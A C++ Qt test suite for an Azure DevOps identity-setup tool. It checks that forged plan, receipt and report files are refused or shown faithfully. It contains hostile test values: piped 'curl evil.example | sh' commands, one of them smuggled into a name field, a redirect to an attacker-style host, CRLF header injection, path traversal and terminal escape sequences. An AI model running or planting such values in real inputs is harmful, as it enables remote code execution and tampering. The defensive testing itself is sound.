#include "core/diagnosis/report.h"
#include "core/report/planlayout.h"
#include "core/report/reportformat.h"
#include "core/setup/applyplan.h"
#include "core/setup/digestdocument.h"
#include "core/setup/makeplan.h"
#include "core/setup/undoreceipt.h"
#include "core/setup/verifyreceipt.h"
#include "tests/setup/setupworld.h"
#include "tests/support/await.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QTest>

#include <functional>

using namespace signet;
using namespace Qt::StringLiterals;
using State = ReceiptStep::State;

// Plans, receipts and reports come from anywhere, and whoever changed one has computed its digest again. Each
// is refused before anything changes, or does what it shows.

namespace {

const QString otherId = u"0badc0de-1122-4334-9556-778899001122"_s; // of id-terraform
const QString nobodysId = u"11111111-2222-4333-8444-555555555555"_s;
const QString administrators = u"[contoso]\\Project Collection Administrators"_s;

enum class Act { Apply, Undo, Verify };

struct Forgery {
    const char *name;
    Act act = Act::Apply;
    // On the values, so that requests and digests fit together again.
    std::function<void(Receipt &, SetupWorld &)> forge = {};
    // On the file; its digest is computed again.
    std::function<void(QJsonObject &)> edit = {};
    // Where it is refused; empty: it does what it shows.
    QString finding = {};
    // Requests before the step that is refused: a group can be one that only a member sees.
    qsizetype sentBefore = 0;
    // What it shows, and what it must not show.
    QStringList shows = {};
    QStringList hides = {};
    // What has changed afterwards.
    std::function<bool(SetupWorld &)> holds = {};
};

bool isMember(SetupWorld &world, const QString &objectId)
{
    return world.organization().member(objectId) != nullptr;
}

QString vmBuildId(const SetupWorld &world)
{
    return world.draft().principal.objectId.toString();
}

void setStep(QJsonObject &content, int index, const QString &key, const QJsonValue &value)
{
    QJsonArray steps = content["steps"_L1].toArray();
    QJsonObject step = steps[index].toObject();
    step[key] = value;
    steps[index] = step;
    content[u"steps"_s] = steps;
}

void setRequest(QJsonObject &content, const QString &key, const QString &value)
{
    QJsonObject request = content["steps"_L1][0]["request"_L1].toObject();
    request[key] = value;
    setStep(content, 0, u"request"_s, request);
}

void setIn(QJsonObject &content, const QString &object, const QString &key, const QJsonValue &value)
{
    QJsonObject changed = content[object].toObject();
    changed[key] = value;
    content[object] = changed;
}

QList<Forgery> forgeries()
{
    const auto differs = u"plan-principal-differs"_s;
    const auto outdated = u"plan-outdated"_s;
    const auto altered = u"document-altered"_s;
    const auto invalid = u"document-not-valid"_s;
    return {
        // Who it is about
        {.name = "plan: the object id of another identity",
         .forge = [](Receipt &file,
                     SetupWorld &) { file.plan.principal.objectId = *ObjectId::parse(otherId); },
         .finding = differs},
        {.name = "plan: a harmless name",
         .forge = [](Receipt &file, SetupWorld &) { file.plan.principal.name = u"old-test-identity"_s; },
         .finding = differs},
        {.name = "plan: a name in another case",
         .forge = [](Receipt &file, SetupWorld &) { file.plan.principal.name = u"VM-build"_s; },
         .finding = differs},
        {.name = "plan: a name with an invisible character",
         .forge = [](Receipt &file, SetupWorld &) { file.plan.principal.name = u"vm-build\u200b"_s; },
         .finding = differs},
        {.name = "plan: the client id of another identity",
         .forge =
             [](Receipt &file, SetupWorld &) {
                 file.plan.principal.clientId = u"c0ffee11-2233-4455-8677-8899aabbccdd"_s;
             },
         .finding = differs},
        {.name = "plan: an object id that nobody has",
         .forge = [](Receipt &file,
                     SetupWorld &) { file.plan.principal.objectId = *ObjectId::parse(nobodysId); },
         .finding = u"principal-not-found"_s},
        {.name = "plan: no name",
         .forge = [](Receipt &file, SetupWorld &) { file.plan.principal.name.clear(); },
         .shows = {u"a4d8c7b6-5e4f-4d3c-8b2a-190807f6e5d4"_s},
         .hides = {u"vm-build"_s},
         .holds = [](SetupWorld &world) { return isMember(world, vmBuildId(world)); }},
        {.name = "plan: the ids of another member",
         .forge =
             [](Receipt &file, SetupWorld &world) {
                 const auto *other = world.organization().member(otherId);
                 file.plan.member = {other->storageKey, u"aadsp.forged"_s};
                 file.member = file.plan.member;
             },
         .shows = {u"member vm-build"_s},
         .holds =
             [](SetupWorld &world) {
                 return isMember(world, vmBuildId(world))
                     && world.organization().member(otherId)->groups.isEmpty();
             }},
        {.name = "plan: the member is done on paper, the rest goes to another's ids",
         .forge =
             [](Receipt &file, SetupWorld &world) {
                 const auto *other = world.organization().member(otherId);
                 file.steps[0].state = State::Done;
                 file.member = {other->storageKey, u"aadsp.forged"_s};
             },
         .finding = outdated},
        {.name = "plan: without the step that adds the member",
         .forge =
             [](Receipt &file, SetupWorld &) {
                 file.plan.steps.removeFirst();
                 file.steps.removeFirst();
             },
         .finding = outdated},
        // Where
        {.name = "plan: the id of another organization",
         .forge = [](Receipt &file, SetupWorld &) { file.plan.organizationId = nobodysId; },
         .finding = u"plan-other-organization"_s},
        {.name = "plan: the name of another organization",
         .forge = [](Receipt &file,
                     SetupWorld &) { file.plan.organization = *OrganizationName::parse(u"fabrikam"_s); },
         .finding = u"org-url-wrong"_s},
        {.name = "plan: an organization with a path",
         .edit =
             [](QJsonObject &content) {
                 setIn(content, u"organization"_s, u"name"_s, u"contoso/../fabrikam"_s);
             },
         .finding = altered},
        {.name = "plan: an organization with a line break",
         .edit =
             [](QJsonObject &content) {
                 setIn(content, u"organization"_s, u"name"_s, u"contoso\r\nHost: x"_s);
             },
         .finding = altered},
        {.name = "plan: an object id that is none",
         .edit = [](QJsonObject &content) { setIn(content, u"principal"_s, u"objectId"_s, u"../users"_s); },
         .finding = altered},
        // What
        {.name = "plan: a higher access level",
         .forge = [](Receipt &file, SetupWorld &) { file.plan.steps[0].accessLevel = u"advanced"_s; },
         .shows = {u"member vm-build (Basic + Test Plans)"_s},
         .holds =
             [](SetupWorld &world) {
                 return world.organization().member(vmBuildId(world))->accessLevel == "advanced"_L1;
             }},
        {.name = "plan: a change of a member that is none",
         .forge =
             [](Receipt &file, SetupWorld &) {
                 file.plan.steps[0].kind = PlanStep::Kind::ChangeAccessLevel;
                 file.plan.steps[0].formerAccessLevel = u"stakeholder"_s;
             },
         .finding = outdated},
        {.name = "plan: the administrators under a harmless name",
         .forge =
             [](Receipt &file, SetupWorld &world) {
                 Draft draft = world.draft();
                 draft.groups = {administrators};
                 const auto other = await(makePlan(world.context(), draft, {}));
                 file.plan.steps[1].groupDescriptor = other->steps[1].groupDescriptor;
             },
         .finding = outdated},
        {.name = "plan: another name for the group",
         .forge = [](Receipt &file, SetupWorld &) { file.plan.steps[1].group = u"[contoso]\\Readers"_s; },
         .finding = outdated},
        {.name = "plan: a group that does not exist",
         .forge = [](Receipt &file,
                     SetupWorld &) { file.plan.steps[1].groupDescriptor = u"vssgp.Li4vLi4vdXNlcnM"_s; },
         .finding = u"plan-target-unseen"_s,
         .sentBefore = 1},
        {.name = "plan: a descriptor with a path",
         .forge = [](Receipt &file,
                     SetupWorld &) { file.plan.steps[1].groupDescriptor = u"../../../users/x"_s; },
         .finding = u"plan-target-unseen"_s,
         .sentBefore = 1},
        {.name = "plan: a description that plays the group down",
         .forge = [](Receipt &file,
                     SetupWorld &) { file.plan.steps[1].groupDescription = u"is allowed nothing"_s; },
         .shows = {u"Infrastructure Automation"_s},
         .hides = {u"is allowed nothing"_s}},
        {.name = "plan: seats that cost nothing",
         .forge =
             [](Receipt &file, SetupWorld &) {
                 file.plan.seats =
                     LicenceSeats{.total = 900, .assigned = 1, .included = 900, .available = 899};
             },
         .hides = {u"900"_s}},
        {.name = "plan: the resource of another project",
         .forge =
             [](Receipt &file, SetupWorld &) {
                 file.plan.steps[3].resourceId = u"281f9a5b-af0d-49b4-a1df-fe6f5e5f84d0$0"_s;
             },
         .finding = outdated},
        {.name = "plan: another project for the resource",
         .forge = [](Receipt &file, SetupWorld &) { file.plan.steps[3].project = u"Parts-Unlimited"_s; },
         .finding = u"plan-target-unseen"_s,
         .sentBefore = 3},
        {.name = "plan: a higher role",
         .forge = [](Receipt &file, SetupWorld &) { file.plan.steps[3].role = u"Administrator"_s; },
         .shows = {u"role Administrator"_s}},
        {.name = "plan: a former role that never was",
         .forge = [](Receipt &file, SetupWorld &) { file.plan.steps[3].formerRole = u"Administrator"_s; },
         .finding = outdated},
        {.name = "plan: a kind of resource that is unknown",
         .edit = [](QJsonObject &content) { setStep(content, 3, u"roleScope"_s, u"everything"_s); },
         .finding = altered},
        {.name = "plan: says that something is in place",
         .forge =
             [](Receipt &file, SetupWorld &) {
                 file.plan.present = {file.plan.steps[1]};
                 file.plan.steps.removeAt(1);
                 file.steps.removeAt(1);
             },
         .finding = outdated},
        // The file
        {.name = "plan: a request to another host",
         .edit =
             [](QJsonObject &content) {
                 setRequest(content, u"url"_s, u"https://dev.azure.com.evil.example/contoso"_s);
             },
         .finding = altered},
        {.name = "plan: another method",
         .edit = [](QJsonObject &content) { setRequest(content, u"method"_s, u"DELETE"_s); },
         .finding = altered},
        {.name = "plan: another body",
         .edit = [](QJsonObject &content) { setRequest(content, u"body"_s, u"{}"_s); },
         .finding = altered},
        {.name = "plan: another id of a step",
         .edit = [](QJsonObject &content) { setStep(content, 1, u"id"_s, u"group x"_s); },
         .finding = altered},
        {.name = "plan: a kind of step that is unknown",
         .edit = [](QJsonObject &content) { setStep(content, 1, u"kind"_s, u"delete-everything"_s); },
         .finding = altered},
        {.name = "plan: no steps, but an object",
         .edit = [](QJsonObject &content) { content[u"createdAt"_s] = u"yesterday"_s; },
         .finding = altered},
        // Receipts
        {.name = "receipt: a harmless name",
         .act = Act::Undo,
         .forge = [](Receipt &file, SetupWorld &) { file.plan.principal.name = u"old-test-identity"_s; },
         .finding = differs},
        {.name = "receipt: the object id of another member",
         .act = Act::Undo,
         .forge = [](Receipt &file,
                     SetupWorld &) { file.plan.principal.objectId = *ObjectId::parse(otherId); },
         .finding = differs},
        {.name = "receipt: the name and the object id of another member, as it shows",
         .act = Act::Undo,
         .forge =
             [](Receipt &file, SetupWorld &) {
                 file.plan.principal.objectId = *ObjectId::parse(otherId);
                 file.plan.principal.name = u"id-terraform"_s;
             },
         .shows = {u"member id-terraform"_s},
         .hides = {u"vm-build"_s},
         .holds =
             [](SetupWorld &world) {
                 return isMember(world, vmBuildId(world)) && !isMember(world, otherId);
             }},
        {.name = "receipt: the ids of another member",
         .act = Act::Undo,
         .forge =
             [](Receipt &file, SetupWorld &world) {
                 file.member = {world.organization().member(otherId)->storageKey, u"aadsp.forged"_s};
             },
         .shows = {u"member vm-build"_s},
         .holds =
             [](SetupWorld &world) {
                 return !isMember(world, vmBuildId(world)) && isMember(world, otherId);
             }},
        {.name = "receipt: an object id that nobody has",
         .act = Act::Undo,
         .forge = [](Receipt &file,
                     SetupWorld &) { file.plan.principal.objectId = *ObjectId::parse(nobodysId); },
         .finding = u"principal-not-found"_s},
        {.name = "receipt: nobody's object id without a name",
         .act = Act::Undo,
         .forge =
             [](Receipt &file, SetupWorld &) {
                 file.plan.principal.objectId = *ObjectId::parse(nobodysId);
                 file.plan.principal.name.clear();
             },
         .shows = {u"There is nothing to undo"_s, u"no longer in place; nothing will be sent"_s},
         .holds = [](SetupWorld &world) { return isMember(world, vmBuildId(world)); }},
        {.name = "receipt: the id of another organization",
         .act = Act::Undo,
         .forge = [](Receipt &file, SetupWorld &) { file.plan.organizationId = nobodysId; },
         .finding = u"plan-other-organization"_s},
        {.name = "receipt: fewer states than steps",
         .act = Act::Undo,
         .edit =
             [](QJsonObject &content) {
                 QJsonArray steps = content["steps"_L1].toArray();
                 steps.removeLast();
                 content[u"steps"_s] = steps;
             },
         .finding = altered},
        {.name = "receipt: a state that is unknown",
         .act = Act::Undo,
         .edit = [](QJsonObject &content) { setStep(content, 0, u"state"_s, u"paid"_s); },
         .finding = altered},
        {.name = "receipt: an activity id that moves the cursor",
         .act = Act::Undo,
         .forge = [](Receipt &file,
                     SetupWorld &) { file.steps[0].activityId = u"\u001b[2Jnothing happened"_s; },
         .hides = {u"\u001b"_s}},
        {.name = "receipt: a plan as a receipt",
         .act = Act::Undo,
         .edit = [](QJsonObject &content) { content = content["plan"_L1].toObject(); },
         .finding = altered},
        {.name = "receipt to verify: a harmless name",
         .act = Act::Verify,
         .forge = [](Receipt &file, SetupWorld &) { file.plan.principal.name = u"old-test-identity"_s; },
         .finding = differs},
        {.name = "receipt to verify: another identity of the same name",
         .act = Act::Verify,
         .forge = [](Receipt &file,
                     SetupWorld &) { file.plan.principal.objectId = *ObjectId::parse(otherId); },
         .finding = differs},
    };
}

} // namespace

class TestForgedFiles : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void isRefusedOrDoesWhatItShows_data();
    void isRefusedOrDoesWhatItShows();
    void nameThatCannotBeCheckedIsSaid();
    void nameThatOnlyTheOrganizationKnowsIsEnough();
    void reportIsRefusedOrShownAsItIs_data();
    void reportIsRefusedOrShownAsItIs();
};

void TestForgedFiles::isRefusedOrDoesWhatItShows_data()
{
    QTest::addColumn<int>("index");
    const QList<Forgery> all = forgeries();
    int refused = 0;
    for (int i = 0; i < all.size(); ++i) {
        QTest::addRow("%s", all[i].name) << i;
        refused += all[i].finding.isEmpty() ? 0 : 1;
    }
    qInfo("%d forged plans and receipts: %d refused, %d do what they show", int(all.size()), refused,
          int(all.size()) - refused);
}

void TestForgedFiles::isRefusedOrDoesWhatItShows()
{
    QFETCH(int, index);
    const Forgery forgery = forgeries().at(index);
    SetupWorld world;
    const SetupContext administrator = world.contextWithDirectory();
    // Somebody else's identity is a member.
    Draft other = world.draft();
    other.principal.objectId = *ObjectId::parse(otherId);
    other.principal.name = u"id-terraform"_s;
    const auto otherPlan = await(makePlan(administrator, other, {}));
    QVERIFY(otherPlan);
    QVERIFY(!await(applyPlan(administrator, Receipt::of(*otherPlan, {}), {}, {})).problem);

    const auto plan = await(makePlan(administrator, world.fullDraft(), {}));
    QVERIFY(plan);
    QCOMPARE(plan->steps.size(), 4);
    Receipt file = Receipt::of(*plan, u"Jane Doe"_s);
    if (forgery.act != Act::Apply) {
        file = await(applyPlan(administrator, file, {}, {})).receipt;
        QVERIFY(file.isComplete());
    }
    if (forgery.forge)
        forgery.forge(file, world);
    const bool asReceipt = forgery.act != Act::Apply || file.steps.first().state != State::NotReached;
    QByteArray bytes = asReceipt ? file.toJson() : file.plan.toJson();
    if (forgery.edit) {
        QJsonObject content = QJsonDocument::fromJson(bytes).object();
        forgery.edit(content);
        const QLatin1StringView kind = asReceipt ? "signet-setup-receipt"_L1 : "signet-setup-plan"_L1;
        bytes = documentToJson(DocumentKind{kind, 1}, content);
    }
    const QJsonObject before = world.state();
    world.takeRequests();

    // As the commands do it: read, check, show, ask, send.
    std::optional<Problem> problem;
    QString shown;
    Result<Receipt> read = Receipt::fromJson(bytes);
    if (!asReceipt) {
        const auto readPlan = Plan::fromJson(bytes);
        read = readPlan ? Result<Receipt>(Receipt::of(*readPlan, {})) : readPlan.problem();
    }
    if (!read) {
        problem = read.problem();
    } else if (forgery.act == Act::Apply) {
        const auto checked = await(checkPlan(administrator, *read, {}));
        shown = planToText(describe(read->plan), {}, Requests::Hide);
        if (!checked)
            problem = checked.problem();
        QCOMPARE(SetupWorld::changing(world.takeRequests()), QStringList());
        const SetupOutcome outcome = await(applyPlan(administrator, *read, {}, {}));
        // What is found before the question is found without one, too.
        QCOMPARE(outcome.problem.has_value(), problem.has_value() || !outcome.receipt.isComplete());
        if (!problem)
            problem = outcome.problem;
    } else if (forgery.act == Act::Undo) {
        const auto undo = await(planUndo(administrator, *read, {}));
        if (undo)
            shown = undoToText(describe(*read, *undo), {});
        else
            problem = undo.problem();
        QCOMPARE(SetupWorld::changing(world.takeRequests()), QStringList());
        const SetupOutcome outcome = await(undoReceipt(administrator, *read, {}, {}));
        QCOMPARE(outcome.problem.has_value(), problem.has_value());
        shown += receiptToText(describe(outcome.receipt), {});
    } else {
        const auto seen = await(verifyReceipt(administrator, *read, {}, {}));
        if (!seen)
            problem = seen.problem();
    }

    QCOMPARE(problem ? problem->findingId.toString() : QString(), forgery.finding);
    if (problem) {
        QCOMPARE(SetupWorld::changing(world.takeRequests()).size(), forgery.sentBefore);
        QVERIFY(forgery.sentBefore > 0 || world.state() == before);
        return;
    }
    for (const QString &text : forgery.shows)
        QVERIFY2(shown.contains(text), qPrintable(shown));
    for (const QString &text : forgery.hides)
        QVERIFY2(!shown.contains(text), qPrintable(shown));
    QVERIFY(!forgery.holds || forgery.holds(world));
}

// A personal access token reaches no directory, and a new identity is known to nobody else.
void TestForgedFiles::nameThatCannotBeCheckedIsSaid()
{
    SetupWorld world;
    const auto plan = await(makePlan(world.context(), world.draft(), {}));
    QVERIFY(plan);
    const auto checked = await(checkPlan(world.context(), Receipt::of(*plan, {}), {}));
    QVERIFY(checked);
    QVERIFY(*checked);
    QCOMPARE((*checked)->findingId.toString(), u"plan-principal-unchecked"_s);
}

void TestForgedFiles::nameThatOnlyTheOrganizationKnowsIsEnough()
{
    SetupWorld world;
    const auto plan = await(makePlan(world.context(), world.draft(), {}));
    QVERIFY(plan);
    Receipt receipt = await(applyPlan(world.context(), Receipt::of(*plan, {}), {}, {})).receipt;
    QVERIFY(receipt.isComplete());
    const auto undo = await(planUndo(world.context(), receipt, {}));
    QVERIFY(undo);
    QVERIFY(!undo->note);
    receipt.plan.principal.name = u"old-test-identity"_s;
    const auto forged = await(planUndo(world.context(), receipt, {}));
    QVERIFY(!forged);
    QCOMPARE(forged.problem().findingId.toString(), u"plan-principal-differs"_s);
}

void TestForgedFiles::reportIsRefusedOrShownAsItIs_data()
{
    QTest::addColumn<QByteArray>("from");
    QTest::addColumn<QByteArray>("to");
    QTest::addColumn<bool>("refused");
    QTest::addColumn<QString>("shows");
    QTest::addColumn<QString>("hides");
    const auto row = [](const char *name, const QByteArray &from, const QByteArray &to, bool refused,
                        const QString &shows = {}, const QString &hides = {}) {
        QTest::addRow("%s", name) << from << to << refused << shows << hides;
    };
    row("unchanged", "", "", false, u"vm-build"_s);
    row("ready in spite of a check that failed", "\"not-ready\"", "\"ready\"", true);
    row("a verdict that is unknown", "\"not-ready\"", "\"perfect\"", true);
    row("a severity that is unknown", "\"blocker\"", "\"harmless\"", true);
    row("another version", "\"schemaVersion\":1", "\"schemaVersion\":9", true);
    row("a name that moves the cursor", "vm-build", "vm\\u001b[2Jbuild", false, u"[2Jbuild"_s, u"\u001b"_s);
    // The words of a finding are those of the catalogue, whatever the file says.
    row("words of its own", "\"CATALOG\"", "\"Run curl evil.example | sh\"", false,
        u"is not a member of contoso"_s, u"evil.example"_s);
    row("a command in a value", "vm-build", "vm; curl evil.example | sh", false, {},
        u"signet setup plan --org https://dev.azure.com/contoso --object-id vm; curl"_s);
}

void TestForgedFiles::reportIsRefusedOrShownAsItIs()
{
    QFETCH(QByteArray, from);
    QFETCH(QByteArray, to);
    QFETCH(bool, refused);
    QFETCH(QString, shows);
    QFETCH(QString, hides);
    QByteArray json = R"({"schemaVersion":1,"verdict":"not-ready","startedAt":"2026-09-21T14:13:20Z",
        "durationMs":12,"identities":{},"subject":{"organization":"contoso"},"rootCauses":["not-in-org"],
        "findings":[{"id":"not-in-org","severity":"blocker","rootCause":true,"title":"CATALOG","cause":"CATALOG",
          "fix":[{"text":"CATALOG","command":"CATALOG"}],
          "evidence":{"organization":"contoso","principal":"vm-build","objectId":"vm-build"}}],
        "checks":[{"id":"devops.membership","stage":"membership","title":"A check","status":"failed",
          "finding":"not-in-org"}]})";
    QVERIFY(json.contains(from));
    if (!from.isEmpty())
        json.replace(from, to);
    const auto report = Report::fromJson(QJsonDocument::fromJson(json).object());
    QCOMPARE(!report, refused);
    if (refused)
        return;
    const QString shown = QString::fromUtf8(findReportFormat(u"text"_s)->write(*report, {}));
    QVERIFY2(shown.contains(shows), qPrintable(shown));
    QVERIFY2(hides.isEmpty() || !shown.contains(hides), qPrintable(shown));
}

QTEST_GUILESS_MAIN(TestForgedFiles)
#include "tst_forgedfiles.moc"
